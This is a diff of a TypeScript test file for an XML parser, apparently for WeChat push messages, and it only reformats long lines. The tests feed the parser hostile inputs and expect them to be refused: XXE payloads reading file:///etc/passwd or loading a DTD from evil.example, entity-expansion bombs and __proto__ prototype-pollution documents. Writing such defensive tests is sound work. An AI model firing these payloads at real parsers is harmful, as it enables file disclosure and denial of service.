@@ -30,9 +30,15 @@ const TEXT_PUSH =
 describe('declarations are refused (docs/wechat-protocol.md §2.3: DTDs and external entities disabled)', () => {
   it.each([
     ['DOCTYPE without internal subset', '<!DOCTYPE xml><xml><a>1</a></xml>'],
-    ['DOCTYPE with a public id', '<!DOCTYPE xml PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><xml><a>1</a></xml>'],
+    [
+      'DOCTYPE with a public id',
+      '<!DOCTYPE xml PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><xml><a>1</a></xml>',
+    ],
     ['DOCTYPE with internal subset', '<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><a>1</a></xml>'],
-    ['DOCTYPE after the XML declaration', '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE xml>\n<xml><a>1</a></xml>'],
+    [
+      'DOCTYPE after the XML declaration',
+      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE xml>\n<xml><a>1</a></xml>',
+    ],
     ['lower-case doctype', '<!doctype xml><xml><a>1</a></xml>'],
     ['an ENTITY declaration used in content', '<!DOCTYPE xml [<!ENTITY name "value">]><xml><a>&name;</a></xml>'],
     [
@@ -47,8 +53,14 @@ describe('declarations are refused (docs/wechat-protocol.md §2.3: DTDs and exte
 ]>
 <xml><ToUserName>&lol9;</ToUserName></xml>`,
     ],
-    ['XXE with SYSTEM file:///etc/passwd', '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>'],
-    ['XXE parameter entity', '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><xml><a>1</a></xml>'],
+    [
+      'XXE with SYSTEM file:///etc/passwd',
+      '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
+    ],
+    [
+      'XXE parameter entity',
+      '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><xml><a>1</a></xml>',
+    ],
     ['an ENTITY declaration inside <xml>', '<xml><!ENTITY x "y"><a>1</a></xml>'],
     ['a DOCTYPE after the root', '<xml><a>1</a></xml><!DOCTYPE xml>'],
   ])('%s', (_name, body) => {
@@ -129,7 +141,9 @@ describe('structure bombs', () => {
 
   it(`accepts ${XML_LIMITS.maxElements} elements, refuses more`, () => {
     const siblings = (count: number): string => `<xml>${'<a>1</a>'.repeat(count - 1)}</xml>`;
-    expect(parseXml(siblings(XML_LIMITS.maxElements))).toStrictEqual({ a: Array<string>(XML_LIMITS.maxElements - 1).fill('1') });
+    expect(parseXml(siblings(XML_LIMITS.maxElements))).toStrictEqual({
+      a: Array<string>(XML_LIMITS.maxElements - 1).fill('1'),
+    });
     expectXmlError(siblings(XML_LIMITS.maxElements + 1), 'too_many_elements');
   });
 
@@ -187,14 +201,19 @@ describe('benign things parse', () => {
   });
 
   it('comments before, inside and after the root', () => {
-    expect(parseXml('<!-- a --><xml><!-- b --><a>1</a><!-- c --><b><!-- d -->2</b></xml><!-- e -->')).toStrictEqual({ a: '1', b: '2' });
+    expect(parseXml('<!-- a --><xml><!-- b --><a>1</a><!-- c --><b><!-- d -->2</b></xml><!-- e -->')).toStrictEqual({
+      a: '1',
+      b: '2',
+    });
   });
 
   it('a UTF-8 BOM, as bytes and as text', () => {
     const expected = parseXml(TEXT_PUSH);
     expect(parseXml(bytes([0xef, 0xbb, 0xbf], TEXT_PUSH))).toStrictEqual(expected);
     expect(parseXml(`\uFEFF${TEXT_PUSH}`)).toStrictEqual(expected);
-    expect(parseXml(bytes([0xef, 0xbb, 0xbf], `<?xml version="1.0" encoding="UTF-8"?>${TEXT_PUSH}`))).toStrictEqual(expected);
+    expect(parseXml(bytes([0xef, 0xbb, 0xbf], `<?xml version="1.0" encoding="UTF-8"?>${TEXT_PUSH}`))).toStrictEqual(
+      expected,
+    );
   });
 
   it('the five predefined entities in text are decoded', () => {
@@ -214,10 +233,16 @@ describe('benign things parse', () => {
   });
 
   it('CDATA is kept verbatim: markup, entities, ]] and whitespace', () => {
-    expect(parseXml('<xml><a><![CDATA[<b>&lt;&amp;</b> ]] ]>]]></a></xml>')).toStrictEqual({ a: '<b>&lt;&amp;</b> ]] ]>' });
+    expect(parseXml('<xml><a><![CDATA[<b>&lt;&amp;</b> ]] ]>]]></a></xml>')).toStrictEqual({
+      a: '<b>&lt;&amp;</b> ]] ]>',
+    });
     expect(parseXml('<xml><a><![CDATA[  padded\n]]></a></xml>')).toStrictEqual({ a: '  padded\n' });
-    expect(parseXml('<xml><a><![CDATA[<!DOCTYPE x><!ENTITY y "z">]]></a></xml>')).toStrictEqual({ a: '<!DOCTYPE x><!ENTITY y "z">' });
-    expect(parseXml('<xml><a><![CDATA[<!-- not a comment -->]]></a></xml>')).toStrictEqual({ a: '<!-- not a comment -->' });
+    expect(parseXml('<xml><a><![CDATA[<!DOCTYPE x><!ENTITY y "z">]]></a></xml>')).toStrictEqual({
+      a: '<!DOCTYPE x><!ENTITY y "z">',
+    });
+    expect(parseXml('<xml><a><![CDATA[<!-- not a comment -->]]></a></xml>')).toStrictEqual({
+      a: '<!-- not a comment -->',
+    });
   });
 
   it(']]> split over two CDATA sections joins back', () => {
@@ -225,7 +250,10 @@ describe('benign things parse', () => {
   });
 
   it('whitespace around values and between elements is trimmed', () => {
-    expect(parseXml('\n<xml>\n  <a>  1  </a>\n\t<b>\n<![CDATA[two]]>\n</b>\n</xml>\n')).toStrictEqual({ a: '1', b: 'two' });
+    expect(parseXml('\n<xml>\n  <a>  1  </a>\n\t<b>\n<![CDATA[two]]>\n</b>\n</xml>\n')).toStrictEqual({
+      a: '1',
+      b: 'two',
+    });
   });
 
   it('repeated elements become arrays, empty ones empty strings', () => {
@@ -237,7 +265,11 @@ describe('benign things parse', () => {
   });
 
   it('numbers stay strings', () => {
-    expect(parseXml('<xml><MsgId>9223372036854775001</MsgId><Scale>20.0</Scale><Hex>0x10</Hex><Exp>1e3</Exp><Bool>true</Bool></xml>')).toStrictEqual({
+    expect(
+      parseXml(
+        '<xml><MsgId>9223372036854775001</MsgId><Scale>20.0</Scale><Hex>0x10</Hex><Exp>1e3</Exp><Bool>true</Bool></xml>',
+      ),
+    ).toStrictEqual({
       MsgId: '9223372036854775001',
       Scale: '20.0',
       Hex: '0x10',
@@ -252,10 +284,16 @@ describe('prototype pollution', () => {
 
   it.each([
     ['__proto__', '<xml><__proto__><polluted>yes</polluted></__proto__><a>1</a></xml>'],
-    ['constructor.prototype', '<xml><constructor><prototype><polluted>yes</polluted></prototype></constructor><a>1</a></xml>'],
+    [
+      'constructor.prototype',
+      '<xml><constructor><prototype><polluted>yes</polluted></prototype></constructor><a>1</a></xml>',
+    ],
     ['nested __proto__', '<xml><a><__proto__><polluted>yes</polluted></__proto__></a></xml>'],
     ['__proto__ as text', '<xml><__proto__>polluted</__proto__><a>1</a></xml>'],
-    ['repeated __proto__', '<xml><__proto__><polluted>1</polluted></__proto__><__proto__><polluted>2</polluted></__proto__></xml>'],
+    [
+      'repeated __proto__',
+      '<xml><__proto__><polluted>1</polluted></__proto__><__proto__><polluted>2</polluted></__proto__></xml>',
+    ],
   ])('%s is refused or kept as data, never inherited', (_name, body) => {
     let result: unknown;
     try {
@@ -274,7 +312,10 @@ describe('prototype pollution', () => {
   });
 
   it('a push with a __proto__ element never reaches Object.prototype through parseInboundXml', () => {
-    const body = TEXT_PUSH.replace('</xml>', '<__proto__><polluted>yes</polluted><MsgType>event</MsgType></__proto__></xml>');
+    const body = TEXT_PUSH.replace(
+      '</xml>',
+      '<__proto__><polluted>yes</polluted><MsgType>event</MsgType></__proto__></xml>',
+    );
     try {
       const message = parseInboundXml(body);
       expect(message.MsgType).toBe('text');
